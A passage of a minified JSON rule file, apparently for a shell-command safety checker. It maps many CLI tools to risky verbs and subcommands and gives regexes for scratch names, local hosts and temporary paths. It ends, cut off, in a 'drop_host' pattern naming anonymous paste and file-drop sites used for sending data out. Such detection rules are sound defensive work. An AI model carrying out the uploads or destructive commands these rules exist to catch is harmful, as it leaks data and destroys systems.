{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"eksctl":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"triton":{"verbs":["rebuild","rei\
nstall"],"nouns":["config","tag"]},"heroku":{"nouns":["config"],"spares":["plugins:uninstall","plugins:unlink","auth:logout","accounts:remove"]},"fly":{"verbs":\
["detach"],"nouns":["image"],"spares":["auth logout"]},"flyctl":{"verbs":["detach"],"nouns":["image"],"spares":["auth logout"]},"vercel":{"nouns":["dev"]},"now"\
:{"nouns":["dev"]},"netlify":{"nouns":["dev"]},"ntl":{"nouns":["dev"]},"railway":{"verbs":["down"],"nouns":["environment"]},"render":{"nouns":["config"]},"koyeb\
":{"nouns":["config"]},"northflank":{"nouns":["config"]},"clever":{"nouns":["config"]},"scalingo":{"nouns":["config"]},"platform":{"nouns":["config"]},"upsun":{\
"nouns":["config"]},"gigalixir":{"nouns":["config"]},"aptible":{"nouns":["config"]},"qovery":{"nouns":["config"]},"cloud66":{"nouns":["config"]},"terminus":{"no\
uns":["config"]},"acli":{"nouns":["config"]},"lagoon":{"nouns":["config"]},"fastly":{"nouns":["config"]},"zeabur":{"nouns":["config"]},"deta":{"nouns":["config"\
]},"genezio":{"nouns":["config"]},"wrangler":{"nouns":["deploy","tail"]},"supabase":{"spares":["migration new"]},"firebase":{"verbs":["disable"],"spares":["targ\
et:clear","target:remove"]},"appwrite":{"nouns":["config"]},"nhost":{"nouns":["config"]},"xata":{"nouns":["config"]},"convex":{"nouns":["config"]},"amplify":{"n\
ouns":["config"]},"ampx":{"nouns":["config"]},"hasura":{"nouns":["config"]},"eb":{"nouns":["config"]},"cf":{"nouns":["config"]},"cf7":{"nouns":["config"]},"cf8"\
:{"nouns":["config"]},"dokku":{"nouns":["config","plugin"],"spares":["config show"]},"caprover":{"nouns":["config","plugin"],"spares":["config show"]},"kamal":{\
"nouns":["config","plugin"],"spares":["config show"]},"piku":{"nouns":["config","plugin"],"spares":["config show"]},"surge":{"nouns":["deploy"]},"deployctl":{"n\
ouns":["deploy"]},"neonctl":{"nouns":["run","runs","config","tag"]},"neon":{"nouns":["run","runs","config","tag"]},"pscale":{"nouns":["run","runs","config","tag\
"]},"planetscale":{"nouns":["run","runs","config","tag"]},"turso":{"nouns":["run","runs","config","tag"]},"tembo":{"nouns":["run","runs","config","tag"]},"aiven\
":{"nouns":["run","runs","config","tag"]},"avn":{"nouns":["run","runs","config","tag"]},"ccloud":{"nouns":["run","runs","config","tag"]},"confluent":{"nouns":["\
run","runs","config","tag"]},"atlas":{"nouns":["run","runs","config","tag"]},"mongocli":{"nouns":["run","runs","config","tag"]},"realm-cli":{"nouns":["run","run\
s","config","tag"]},"astra":{"nouns":["run","runs","config","tag"]},"upstash":{"nouns":["run","runs","config","tag"]},"fauna":{"nouns":["run","runs","config","t\
ag"]},"tb":{"nouns":["run","runs","config","tag"]},"ticloud":{"nouns":["run","runs","config","tag"]},"databricks":{"nouns":["run","runs","config","tag"]},"dbfs"\
:{"nouns":["run","runs","config","tag"]},"dbt-cloud":{"nouns":["run","runs","config","tag"]},"motherduck":{"nouns":["run","runs","config","tag"]},"gh":{"nouns":\
["run","label","release","cache","status","events","tag"],"spares":["alias delete","extension remove","auth logout"]},"glab":{"nouns":["run","label","release","\
cache","status","events","tag"],"spares":["alias delete","extension remove","auth logout"]},"hub":{"nouns":["run","label","release","cache","status","events","t\
ag"],"spares":["alias delete","extension remove","auth logout"]},"tea":{"nouns":["run","label","release","cache","status","events","tag"],"spares":["alias delet\
e","extension remove","auth logout"]},"circleci":{"verbs":["remove-secret"],"nouns":["context","contexts","config","run"]},"gitlab-runner":{"nouns":["run"]},"tr\
avis":{"verbs":["disable"],"nouns":["env","cache","settings"]},"drone":{"nouns":["log","build","cron","info","plugins"]},"woodpecker-cli":{"nouns":["log","build\
","cron","info","plugins"]},"buildkite-agent":{"nouns":["build","pipeline"]},"bk":{"nouns":["build","pipeline"]},"jenkins-cli":{"verbs":["quiet-down","safe-rest\
art","safe-shutdown","shutdown","disable-job","disable-node"],"nouns":["build","config","plugin"]},"jcli":{"verbs":["quiet-down","safe-restart","safe-shutdown",\
"shutdown","disable-job","disable-node"],"nouns":["build","config","plugin"]},"jenkins-jobs":{"verbs":["quiet-down","safe-restart","safe-shutdown","shutdown","d\
isable-job","disable-node"],"nouns":["build","config","plugin"]},"tkn":{"nouns":["archive"],"spares":["context delete"]},"argo":{"nouns":["archive"],"spares":["\
context delete"]},"argocd":{"nouns":["archive"],"spares":["context delete"]},"flux":{"nouns":["archive"],"spares":["context delete"]},"kargo":{"nouns":["archive\
"],"spares":["context delete"]},"harness":{"nouns":["archive"],"spares":["context delete"]},"codefresh":{"nouns":["archive"],"spares":["context delete"]},"sem":\
{"nouns":["archive"],"spares":["context delete"]},"teamcity":{"nouns":["archive"],"spares":["context delete"]},"appveyor":{"nouns":["archive"],"spares":["contex\
t delete"]},"bitrise":{"nouns":["archive"],"spares":["context delete"]},"codemagic":{"nouns":["archive"],"spares":["context delete"]},"cirrus":{"nouns":["archiv\
e"],"spares":["context delete"]},"werf":{"nouns":["archive"],"spares":["context delete"]},"octopus":{"nouns":["archive"],"spares":["context delete"]},"depot":{"\
nouns":["archive"],"spares":["context delete"]},"rancher":{"nouns":["run","config"]},"rke":{"nouns":["run","config"]},"rosa":{"nouns":["run","config"]},"ocm":{"\
nouns":["run","config"]},"tsh":{"nouns":["run","config"]},"tctl":{"nouns":["run","config"]},"k0sctl":{"nouns":["run","config"]},"talosctl":{"nouns":["run","conf\
ig"]},"omnictl":{"nouns":["run","config"]},"kops":{"nouns":["run","config"]},"clusterctl":{"nouns":["run","config"]},"karmadactl":{"nouns":["run","config"]},"vc\
luster":{"nouns":["run","config"]},"tanzu":{"nouns":["run","config"]},"cilium":{"nouns":["run","config"]},"linkerd":{"nouns":["run","config"]},"istioctl":{"noun\
s":["run","config"]},"consul-k8s":{"nouns":["run","config"]},"kumactl":{"nouns":["run","config"]},"kn":{"nouns":["run","config"]},"faas-cli":{"nouns":["run","co\
nfig"]},"nuctl":{"nouns":["run","config"]},"velero":{"nouns":["run","config"]},"pxctl":{"nouns":["run","config"]},"nixos-container":{"verbs":["deluser","uninit"\
],"nouns":["config","image"]},"helmfile":{"verbs":["deluser","uninit"],"nouns":["config","image"]},"machinectl":{"verbs":["deluser","uninit"],"nouns":["config",\
"image"]},"loft":{"verbs":["deluser","uninit"],"nouns":["config","image"]},"stratis":{"verbs":["deluser","uninit"],"nouns":["config","image"]},"apptainer":{"ver\
bs":["deluser","uninit"],"nouns":["config","image"]},"singularity":{"verbs":["deluser","uninit"],"nouns":["config","image"]},"prosodyctl":{"verbs":["deluser","u\
ninit"],"nouns":["config","image"]},"ejabberdctl":{"verbs":["deluser","uninit"],"nouns":["config","image"]},"ykman":{"verbs":["deluser","uninit"],"nouns":["conf\
ig","image"]},"etckeeper":{"verbs":["deluser","uninit"],"nouns":["config","image"]},"gluster":{"nouns":["image","config","profile"]},"ceph":{"nouns":["image","c\
onfig","profile"]},"rados":{"nouns":["image","config","profile"]},"rbd":{"nouns":["image","config","profile"]},"lxc":{"nouns":["image","config","profile"]},"inc\
us":{"nouns":["image","config","profile"]},"multipass":{"nouns":["image","config","profile"]},"govc":{"nouns":["image","config","profile"]},"pvesh":{"nouns":["i\
mage","config","profile"]},"pveum":{"nouns":["image","config","profile"]},"xe":{"nouns":["image","config","profile"]},"onevm":{"nouns":["image","config","profil\
e"]},"maas":{"nouns":["image","config","profile"]},"hammer":{"nouns":["image","config","profile"]},"juju":{"nouns":["image","config","profile"]},"crane":{"nouns\
":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"gcrane":{"nouns":["tag","repo","image","export","config"],"spares":["config \
remove","config rm"]},"skopeo":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"regctl":{"nouns":["tag","repo","image"\
,"export","config"],"spares":["config remove","config rm"]},"oras":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"no\
tation":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"cosign":{"nouns":["tag","repo","image","export","config"],"sp\
ares":["config remove","config rm"]},"harbor-cli":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"jf":{"nouns":["tag"\
,"repo","image","export","config"],"spares":["config remove","config rm"]},"jfrog":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","\
config rm"]},"cloudsmith":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"packagecloud":{"nouns":["tag","repo","image\
","export","config"],"spares":["config remove","config rm"]},"pulp":{"nouns":["tag","repo","image","export","config"],"spares":["config remove","config rm"]},"s\
pacectl":{"spares":["plugin"]},"tfc":{"spares":["plugin"]},"esc":{"spares":["plugin"]},"sceptre":{"spares":["plugin"]},"sst":{"spares":["plugin"]},"serverless":\
{"spares":["plugin"]},"sls":{"spares":["plugin"]},"sam":{"spares":["plugin"]},"chalice":{"spares":["plugin"]},"zappa":{"spares":["plugin"]},"cdk":{"spares":["pl\
ugin"]},"cdktf":{"spares":["plugin"]},"pulumi":{"spares":["plugin"]},"rabbitmqctl":{"verbs":["force_reset","stop_app","forget_cluster_node"]},"rabbitmqadmin":{"\
nouns":["context","export","import"],"spares":["context rm"]},"nats":{"nouns":["context","export","import"],"spares":["context rm"]},"nsc":{"nouns":["context","\
export","import"],"spares":["context rm"]},"pulsar-admin":{"verbs":["skip-all","skip-messages","expire-messages"]},"pulsarctl":{"verbs":["skip-all","skip-messag\
es","expire-messages"]},"rpk":{"nouns":["consume","config"],"spares":["profile delete"]},"kafkactl":{"nouns":["consume","config"],"spares":["profile delete"]},"\
kaf":{"nouns":["consume","config"],"spares":["profile delete"]},"kcctl":{"nouns":["consume","config"],"spares":["profile delete"]},"etcdctl":{"verbs":["disable"\
,"force-leave"],"nouns":["config","plugin","events","connect","session","sessions"]},"consul":{"verbs":["disable","force-leave"],"nouns":["config","plugin","eve\
nts","connect","session","sessions"]},"nomad":{"verbs":["disable","force-leave"],"nouns":["config","plugin","events","connect","session","sessions"]},"vault":{"\
verbs":["disable","force-leave"],"nouns":["config","plugin","events","connect","session","sessions"]},"bao":{"verbs":["disable","force-leave"],"nouns":["config"\
,"plugin","events","connect","session","sessions"]},"boundary":{"verbs":["disable","force-leave"],"nouns":["config","plugin","events","connect","session","sessi\
ons"]},"influx":{"nouns":["config","query"],"spares":["config rm"]},"influxdb3":{"nouns":["config","query"],"spares":["config rm"]},"promtool":{"nouns":["config\
","query"],"spares":["config rm"]},"amtool":{"nouns":["config","query"],"spares":["config rm"]},"mimirtool":{"nouns":["config","query"],"spares":["config rm"]},\
"cortextool":{"nouns":["config","query"],"spares":["config rm"]},"logcli":{"nouns":["config","query"],"spares":["config rm"]},"grafanactl":{"nouns":["config","q\
uery"],"spares":["config rm"]},"meilisearch":{},"algolia":{},"typesense-cli":{},"esctl":{},"ecctl":{},"qdrant":{},"weaviate":{},"pinecone":{},"milvus_cli":{},"v\
espa":{},"s4cmd":{"nouns":["link"]},"storj":{"nouns":["link"]},"uplink":{"nouns":["link"]},"w3":{"nouns":["link"]},"dbxcli":{"nouns":["link"]},"gdrive":{"nouns"\
:["link"]},"mega-rm":{"nouns":["link"]},"stripe":{"verbs":["cancel","void","void_invoice"],"nouns":["events"],"spares":["config"]},"twilio":{"nouns":["config"],\
"spares":["config:remove","profiles:remove","plugins:remove","plugins:uninstall"]},"sendgrid":{"nouns":["config"],"spares":["config:remove","profiles:remove","p\
lugins:remove","plugins:uninstall"]},"plivo":{"nouns":["config"],"spares":["config:remove","profiles:remove","plugins:remove","plugins:uninstall"]},"vonage":{"n\
ouns":["config"],"spares":["config:remove","profiles:remove","plugins:remove","plugins:uninstall"]},"telnyx":{"nouns":["config"],"spares":["config:remove","prof\
iles:remove","plugins:remove","plugins:uninstall"]},"shopify":{"nouns":["config","space","extension"]},"contentful":{"nouns":["config","space","extension"]},"sa\
nity":{"nouns":["config","space","extension"]},"prismic":{"nouns":["config","space","extension"]},"storyblok":{"nouns":["config","space","extension"]},"datocms"\
:{"nouns":["config","space","extension"]},"hygraph":{"nouns":["config","space","extension"]},"commercetools":{"nouns":["config","space","extension"]},"saleor":{\
"nouns":["config","space","extension"]},"webflow":{"nouns":["config","space","extension"]},"bigcommerce":{"nouns":["config","space","extension"]},"sentry-cli":{\
"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"rollbar-cli":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]}\
,"bugsnag-cli":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"datadog-ci":{"verbs":["disable"],"nouns":["events","files","config","t\
ail","search"]},"snyk":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"pagerduty":{"verbs":["disable"],"nouns":["events","files","con\
fig","tail","search"]},"dog":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"newrelic":{"verbs":["disable"],"nouns":["events","files"\
,"config","tail","search"]},"pd":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"opsgenie":{"verbs":["disable"],"nouns":["events","fi\
les","config","tail","search"]},"honeycomb":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"axiom":{"verbs":["disable"],"nouns":["eve\
nts","files","config","tail","search"]},"checkly":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"papertrail":{"verbs":["disable"],"n\
ouns":["events","files","config","tail","search"]},"lacework":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"snyk-api-import":{"verb\
s":["disable"],"nouns":["events","files","config","tail","search"]},"splunk":{"verbs":["disable"],"nouns":["events","files","config","tail","search"]},"auth0":{\
"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"okta":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"clerk":{"verbs":["user-del"\
,"group-del","host-del"],"nouns":["logs"]},"workos":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"zitadel":{"verbs":["user-del","group-del","h\
ost-del"],"nouns":["logs"]},"ory":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"kcadm":{"verbs":["user-del","group-del","host-del"],"nouns":["\
logs"]},"kcadm.sh":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"keycloak-cli":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},\
"fusionauth":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"ipa":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"samba-tool":{"\
verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"jumpcloud":{"verbs":["user-del","group-del","host-del"],"nouns":["logs"]},"op":{"verbs":["suspend"\
],"nouns":["config","configs","settings","history"],"spares":["config"]},"bw":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["\
config"]},"bws":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"lpass":{"verbs":["suspend"],"nouns":["config","conf\
igs","settings","history"],"spares":["config"]},"rbw":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"doppler":{"ve\
rbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"infisical":{"verbs":["suspend"],"nouns":["config","configs","settings",\
"history"],"spares":["config"]},"chamber":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"credstash":{"verbs":["sus\
pend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"berglas":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"\
spares":["config"]},"akeyless":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"conjur":{"verbs":["suspend"],"nouns"\
:["config","configs","settings","history"],"spares":["config"]},"keeper":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["confi\
g"]},"dcli":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"dotenv-vault":{"verbs":["suspend"],"nouns":["config","c\
onfigs","settings","history"],"spares":["config"]},"keybase":{"verbs":["suspend"],"nouns":["config","configs","settings","history"],"spares":["config"]},"ldcli"\
:{"nouns":["config"]},"launchdarkly":{"nouns":["config"]},"flagsmith":{"nouns":["config"]},"configcat":{"nouns":["config"]},"statsig":{"nouns":["config"]},"ngro\
k":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"tailscale":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tu\
nnel","config"],"spares":["config"]},"cloudflared":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"zerotier-cli":{"v\
erbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"netbird":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","c\
onfig"],"spares":["config"]},"headscale":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"flarectl":{"verbs":["cleanu\
p","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"cli4":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":\
["config"]},"cli53":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"dnscontrol":{"verbs":["cleanup","rrdelete","rrpu\
rge"],"nouns":["tunnel","config"],"spares":["config"]},"octodns-sync":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]}\
,"pdnsutil":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns":["tunnel","config"],"spares":["config"]},"akamai":{"verbs":["cleanup","rrdelete","rrpurge"],"nouns\
":["tunnel","config"],"spares":["config"]},"linear":{"nouns":["workflow","env","config","connections"]},"jira":{"nouns":["workflow","env","config","connections"\
]},"airtable":{"nouns":["workflow","env","config","connections"]},"m365":{"nouns":["workflow","env","config","connections"]},"o365":{"nouns":["workflow","env","\
config","connections"]},"gam":{"nouns":["workflow","env","config","connections"]},"temporal":{"nouns":["workflow","env","config","connections"]},"zbctl":{"nouns\
":["workflow","env","config","connections"]},"prefect":{"nouns":["workflow","env","config","connections"]},"dagster-cloud":{"nouns":["workflow","env","config","\
connections"]},"astro":{"nouns":["workflow","env","config","connections"]},"airflow":{"nouns":["workflow","env","config","connections"]},"fivetran":{"nouns":["w\
orkflow","env","config","connections"]},"octavia":{"nouns":["workflow","env","config","connections"]},"posthog":{"nouns":["workflow","env","config","connections\
"]},"trello":{"nouns":["workflow","env","config","connections"]},"huggingface-cli":{"nouns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"hf":{"n\
ouns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"modal":{"nouns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"replicate":{"nou\
ns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"wandb":{"nouns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"clearml":{"nouns":\
["run"],"spares":["delete-cache","cache prune","cache rm"]},"mlflow":{"nouns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"kaggle":{"nouns":["ru\
n"],"spares":["delete-cache","cache prune","cache rm"]},"truss":{"nouns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"anyscale":{"nouns":["run"]\
,"spares":["delete-cache","cache prune","cache rm"]},"sky":{"nouns":["run"],"spares":["delete-cache","cache prune","cache rm"]},"eas":{"nouns":["build"]},"appce\
nter":{"nouns":["build"]},"code-push":{"nouns":["build"]},"saucectl":{"nouns":["build"]},"wp":{"verbs":["clean"],"nouns":["plugin","config"],"spares":["cache","\
transient","rewrite","package uninstall"]},"wp-cli":{"verbs":["clean"],"nouns":["plugin","config"],"spares":["cache","transient","rewrite","package uninstall"]}\
,"wp-cli.phar":{"verbs":["clean"],"nouns":["plugin","config"],"spares":["cache","transient","rewrite","package uninstall"]},"drush":{"verbs":["cancel","sql-drop\
"],"nouns":["config"],"spares":["cache:clear","cache-clear","state:delete"]},"drush.phar":{"verbs":["cancel","sql-drop"],"nouns":["config"],"spares":["cache:cle\
ar","cache-clear","state:delete"]},"drupal":{"verbs":["cancel","sql-drop"],"nouns":["config"],"spares":["cache:clear","cache-clear","state:delete"]},"prisma":{"\
nouns":["migrate"]},"drizzle-kit":{"nouns":["migrate"]},"ghost":{"nouns":["config","plugin"],"spares":["indexer:reset"]},"magento":{"nouns":["config","plugin"],\
"spares":["indexer:reset"]},"bin/magento":{"nouns":["config","plugin"],"spares":["indexer:reset"]},"n98-magerun2":{"nouns":["config","plugin"],"spares":["indexe\
r:reset"]},"typo3":{"nouns":["config","plugin"],"spares":["indexer:reset"]},"moosh":{"nouns":["config","plugin"],"spares":["indexer:reset"]}}},"forms":{"forms":\
{"scratch_name":["(?:^|[-_./])(?:tmp|temp|tests?|testing|scratch|throwaway|demo|probe|trial|dummy|sandbox|wip|foo|bar|e2e|smoke|ci|t\\\\d+)(?:[-_./]|\\\\d|$)","i"],\
"test_thing":["(?:^|[-_./])(?:tmp|temp|tests?|testing|scratch|throwaway|sandbox|e2e|smoke|ci)(?:[-_./]|$)","i"],"kept_name":["prod|live|main|master|stag|release\
|data|backup|company","i"],"makes_new":["^(?:createdb|git tag|kind create|k3d cluster create) "],"unique_output":["^(?:date \\\\+%s(?:%N)?|uuidgen(?: -[rt])?|open\
ssl rand -hex [1-9]\\\\d*|(?:docker|podman) (?:volume|network) create)$"],"pester_block":["^\\\\s*Describe\\\\s+(?=[^{}\\\\n]{1,200}\\\\{)(?:[^\\"'#&]|\\"[^\\"{}#&]*\\"|'[^'{\
}#&]*')*$"],"beside_ignored":["\\\\b(?:iex|Invoke-Expression|\\\\w*alias|sal|nal|function|class)\\\\b|\\\\.Invoke\\\\b|GetScriptBlock|&","i"],"beside_pester":["\\\\bfunctio\
n\\\\b|\\\\balias|module","i"],"pester_mock":["\\\\bMock\\\\s+(?:-CommandName\\\\s+)?([A-Za-z]+-[A-Za-z]+)\\\\s+(?:-MockWith\\\\s+)?\\\\{\\\\s*\\\\}(?!\\\\s*-)","gi"],"constant_list"\
:["\\\\$(\\\\w{1,40})(?: {0,4}= {0,4}| in )(?:@\\\\()?((?:\\"[^\\"\\\\n]*\\"|'[^'\\\\n]*')(?:\\\\s{0,40},\\\\s{0,40}(?:\\"[^\\"\\\\n]*\\"|'[^'\\\\n]*'))*)(?=[\\\\s;)])","gi"],"loop_over_\
variable":["\\\\(\\\\$(\\\\w{1,40}) in \\\\$(\\\\w{1,40})\\\\)","gi"],"variable_use":["(?<=\\\\s)\\\\$(\\\\w{1,40})\\\\b(?! *=| in )","gi"],"local_cluster":["^(?!.*(?:--(?:server|k\
ubeconfig|cluster|user|as|token|kube-apiserver|kube-as\\\\S*)\\\\b| -s))(?!.*-context.*-context).* --(?:kube-)?context[= ](?:kind|k3d)-(?!\\\\S*(?:prod|live|stag))[\\\\\
w-]+(?: |$)"],"server_place":["(?:\\\\blocalhost:|\\\\b127\\\\.0\\\\.0\\\\.1:| -[pP] ?| --port[= ])(\\\\d{4,5})(?=[ /?])| (?:-[Ss]|--socket|-h)[= ]?(/tmp/tmp\\\\.\\\\uFFFC/\\\\S+\
)","g"],"container_start":["^(?:docker|podman) run (?!.*(?: -v| --volume| --mount| --link| --net|=\\\\S*:\\\\d|HOST=|UR[LI]=|ADDR=))"],"server_start":["^(?!.*--(?:r\
eplicaof|slaveof|cluster))(?:redis-server|valkey-server|mongod|mysqld|postgres)(?!.* (?:-h|--help|--version|-v) ) .*--port[= ](\\\\d{4,5}) "],"usual_port":["^(?:6\
3[78]\\\\d|2701[789]|330[67]|543[0-9]|9200|11211)$"],"other_server":["(?: -h| --host)(?![= ]?(?:localhost |127\\\\.0\\\\.0\\\\.1 |/))|@(?!localhost|127\\\\.0\\\\.0\\\\.1)|://\
(?!(?:[^@/ ]*@)?(?:localhost|127\\\\.0\\\\.0\\\\.1):)|\\\\bhost(?:addr)?=(?!localhost)|HOST=(?!localhost |127)"],"list_of_deleted":["^git (?:ls-files(?: -z)? (?:-d|--de\
leted)(?: -z)?|diff(?=.* --diff-filter=D)(?: --name-only| --diff-filter=D| -z){2,3})$"],"named_here":["^(?!.*(?:--(?:all|purge)\\\\b| -\\\\w*a\\\\w*(?: |$)| (?:-f|--f\
ile)\\\\b.* (?:-f|--file)\\\\b))(?:kind delete cluster (?:--name[= ])?|k3d cluster delete |minikube delete (?:-p|--profile)[= ]|(?:docker|podman|nerdctl)(?:-| )comp\
ose (?:.*(?:-p|--project-name)[= ]|(?!.*(?: -p|--project-name)[= ]).*(?:-f|--file)[= ]))(?!-)([\\\\w./-]+)(?= (?:down|rm) |$| -)"],"in_new_folder":["^/tmp/tmp[.]\\\
\\u{FFFC}/[^/]+$","u"],"remote_setting":["(?:^|\\\\s)(?:remote(?:\\\\.[\\\\w-]+\\\\.\\\\w*url|\\\\.pushDefault| add| set-url)|\\\\S*pushRemote)","i"],"brings_files":["^(?:cp|l\
n|mv|rsync|tar|unzip|scp|mount)$"],"restoring_word":["^(?:checkout|restore|--|\\\\u{FFFC})$","u"],"compose_down":["^(?:docker|podman)(?: compose|-compose) .*\\\\bdo\
wn\\\\b"],"project_name":[" (?:-p|--project-name)[= ](\\\\S+)"],"unique_setting":["^COMPOSE_PROJECT_NAME=[\\\\w-]*7340281946"],"unique_project":[" (?:-p|--project-nam\
e)[= ](?!\\\\S*[/~])[\\\\w-]*7340281946\\\\S*"],"compose_program":["^(?:docker|podman|nerdctl|docker-compose|podman-compose)$"],"timing_wrapper":["^(?:time|timeout|en\
v|(?:ba)?sh|nice)$"],"compose_variable":["^(?:DOCKER_HOST|DOCKER_CONTEXT|COMPOSE_\\\\w+|CONTAINER_HOST)$"],"compose_place":[" (?:-p|--project-name|--project-direc\
tory|-H|--host|-c|--context)|(?: -f|--file)[= ]?(?:[/~]|\\\\.\\\\.)|(?:-f|--file|--env-file|--profile)[= ]?\\\\S*prod"],"context_change":["^(?:docker context use|dock\
er-machine|eval |export DOCKER)|DOCKER_HOST="],"git_step":["^--(?:continue|skip|abort|quit|show-current-patch|edit-todo)$"],"cluster_tool":["^(?:kubectl|helm|ki\
nd|k3d|docker|echo|printf|sleep|true|cat|grep|head|tail|jq|wc|date|mktemp|test|\\\\[|wait|cd|set|mkdir|trap)$"],"database_client":["^(?:redis-cli|valkey-cli|mongo\
sh?)$"],"server_program":["^(?:mysqld(?:_safe)?|mariadbd|postgres|pg_ctl|redis-server|valkey-server|mongod)$"],"place_variable":["HOST|URL|SERVICE|PORT|ADDR|SOC\
K|DEFAULTS"],"forwarding_program":["^(?:ssh|socat|stunnel|ln|kubectl|haproxy|iptables|nft|ncat|source|\\\\.)$"],"leaves_database":["\\\\\\\\c|\\\\buse\\\\b|\\\\w\\\\.\\\\w|=\\"?\
\\\\w|://|^-h|^--host"],"git_abort":["^(merge|rebase|cherry-pick|revert|am) --abort$"],"placeless_flag":["^(?:-[aefiqy]|--(?:name|if-exists|force|echo|quiet|yes|w\
ait|verbose|timeout|no-[\\\\w-]+)|\\\\d+[sm])$"],"cluster_creation":["^(?:kind create cluster|k3d cluster create)(?!.* -h\\\\b)(?!.*--(?:help|kubeconfig|switch-contex\
t|update-default|kubeconfig-))"],"other_cluster":["\\\\bctx\\\\b|\\\\bcurrent-context|--user\\\\b|\\\\s-s\\\\S|\\\\buse-context|^kubectx|\\\\bset-context|--(?:kube-?)?(?:contex\
t|config|cluster)\\\\b|--server\\\\b|\\\\s-s\\\\s|^kind export|KUBECONFIG"],"near_wrapper":["^(?:(?:ba)?sh|sudo|env|time|timeout|psql|mysql|mariadb)$"],"code_wrapper":[\
"^(?:python[\\\\d.]*|node|deno|bun|ruby|perl|php)$"],"naming_option":["^--?(?:[\\\\w-]*(?:name|bucket|cluster|topic|queue|identifier|stack|table|database|volume|rep\
o|id|group)|n|p)(?:=|$)"],"temporary_file":["^/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.).+"],"loopback":["^UseDevelopmentStorage=true$|^(?:[a-z][a-z0-9+.-]*://)?(?:[\
^@/\\\\s]*@)?(?:localhost|127(?:\\\\.\\\\d+){3}|\\\\[::1\\\\])(?::\\\\d+)?(?:/|$)"],"test_name":["^(?:.*[/_-])?(?:test|tests|testing|scratch|tmp)(?:[_-][\\\\w\\\\u{FFFC}-]*)?\\\\\
d*(?:\\\\.(?:db|sqlite3?))?(?:\\\\?.*)?$","u"],"passing_file":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.))"],"passing_address":["^(?:(?:file|sqlite\\\\d?):(\
?://)?/?)?/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.)|^(?:file:|sqlite\\\\d?:(?://)?/?)?:memory:(?:\\\\?.*)?$|^jdbc:(?:h2|hsqldb|derby)::?mem"],"file_client":["^(?:sqlite\
3?|duckdb)$"],"http_client":["^(?:curl|wget|https?|xhs?)$"],"beyond_database":["^(?:drop-database|drop-tablespace|drop-owned|shutdown|flush)$"],"local_host":["^\
(localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|host\\\\.docker\\\\.internal|10\\\\.[\\\\d.]+|192\\\\.168\\\\.[\\\\d.]+|172\\\\.(1[6-9]|2\\\\d|3[01])\\\\.[\\\\d.]+|[a-z][\\\\w-]*|.*\
\\\\.(local|localhost|test|internal|svc))$"],"drop_host":["(^|\\\\.)(transfer\\\\.sh|file\\\\.io|0x0\\\\.st|termbin\\\\.com|pastebin\\\\.com|paste\\\\.ee|hastebin\\\\.com|ix\\\\.io\
